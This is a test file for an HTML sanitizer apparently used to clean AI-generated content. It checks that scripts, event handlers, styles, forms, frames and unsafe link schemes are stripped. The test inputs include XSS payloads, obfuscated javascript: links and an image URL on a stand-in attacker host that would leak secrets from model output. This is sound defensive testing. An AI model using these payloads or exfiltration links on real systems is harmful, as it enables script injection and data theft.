import fc from 'fast-check';
import { expect, test } from 'vitest';
import { sanitizeFlowFragment, sanitizeFlowHtml } from './sanitizeFlowHtml.js';

test.each([
  ['text and marks', '<p>One <strong>two</strong> <em>three</em> <s>four</s> <u>five</u> <code>six</code></p>'],
  ['headings and lists', '<h2>Plan</h2><ul><li>One</li></ul><ol start="3"><li>Three</li></ol>'],
  [
    'a quote, a divider and a table',
    '<blockquote><p>Q</p></blockquote><hr><table><tbody><tr><td>1</td></tr></tbody></table>',
  ],
  ['a code block with its language', '<pre><code class="language-c++">x</code></pre>'],
])('%s stay as they are', (_, html) => {
  expect(sanitizeFlowHtml(html)).toBe(html);
});

test.each([
  ['scripts', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
  ['handlers', '<p onclick="alert(1)" onpointerover=alert(1)>a</p>', '<p>a</p>'],
  ['styles', '<style>*{display:none}</style><p style="position:fixed">a</p>', '<p>a</p>'],
  [
    'forms, keeping their words',
    '<form action="/x"><label>Pin <input name="pin"></label><button>Go</button></form>',
    'Pin Go',
  ],
  ['frames and plug-ins', '<iframe src="/x"></iframe><object data="/x"></object><embed src="/x">a', 'a'],
  ['ids, names and data', '<p id="root" name="x" data-x="1" aria-hidden="true">a</p>', '<p>a</p>'],
  ['other classes', '<p class="fixed language-js">a</p><b class="modal">b</b>', '<p class="language-js">a</p><b>b</b>'],
  ['foreign markup', '<svg><script>alert(1)</script></svg><math><mi>x</mi></math><p>a</p>', '<p>a</p>'],
  [
    'documents around it',
    '<html><head><title>t</title><base href="//evil"></head><body><p>a</p></body></html>',
    '<p>a</p>',
  ],
])('%s go', (_, html, clean) => {
  expect(sanitizeFlowHtml(html).replace(/\s+/g, ' ')).toBe(clean);
});

test('links open in a new tab, without a way back', () => {
  for (const href of ['https://example.com/a', '/entries/1', '#part', 'mailto:a@example.com', 'tel:+1']) {
    expect(sanitizeFlowHtml(`<a href="${href}" target="_top" rel="opener">a</a>`)).toBe(
      `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">a</a>`,
    );
  }
});

test.each([
  'javascript:alert(1)',
  ' java\tscript:alert(1)',
  'JAVASCRIPT&colon;alert(1)',
  'data:text/html,x',
  'vbscript:x',
  'blob:x',
])('a link to %j leads nowhere', (href) => expect(sanitizeFlowHtml(`<a href="${href}">a</a>`)).toBe('<a>a</a>'));

test('images are the app’s own or data: one of another host would tell it what a model was talked into', () => {
  const data = 'data:image/png;base64,iVBORw0KGgo=';
  expect(sanitizeFlowHtml('<img src="/files/a.png" alt="A">')).toBe('<img src="/files/a.png" alt="A">');
  expect(sanitizeFlowHtml(`<img alt="A" src="${data}">`)).toContain(data);
  expect(sanitizeFlowHtml('<p>x <img src="https://evil.example/?secret" alt="chart"> y</p>')).toBe('<p>x chart y</p>');
  expect(sanitizeFlowHtml('<img src="//evil.example/a.png">')).toBe('');
  expect(sanitizeFlowHtml('<img src="data:image/svg+xml,<svg onload=alert(1)>">')).toBe('');
});

test('whatever comes, nothing active is left, and cleaning twice changes nothing', () => {
  const pieces = [
    '<p>',
    '</p>',
    '<a href=',
    '"javascript:x"',
    '>',
    '<img src=x onerror=y>',
    '<svg>',
    '<style>',
    '</',
    '<!--',
    '<b',
    "'",
    'x',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces)), (parts) => {
      const clean = sanitizeFlowHtml(parts.join(''));
      const page = new DOMParser().parseFromString(clean, 'text/html');
      const elements = [...page.body.querySelectorAll('*')];
      expect(page.querySelector('script, style, svg, form, iframe')).toBeNull();
      expect(
        elements.flatMap((element) => element.getAttributeNames()).filter((name) => /^(?:on|style|id)/.test(name)),
      ).toEqual([]);
      expect(sanitizeFlowHtml(clean)).toBe(clean);
    }),
  );
});

test('the fragment holds the same', () => {
  const host = document.createElement('div');
  host.append(sanitizeFlowFragment('<p>a<script>1</script><a href="/x">b</a></p>'));
  expect(host.innerHTML).toBe('<p>a<a href="/x" target="_blank" rel="noopener noreferrer nofollow">b</a></p>');
});
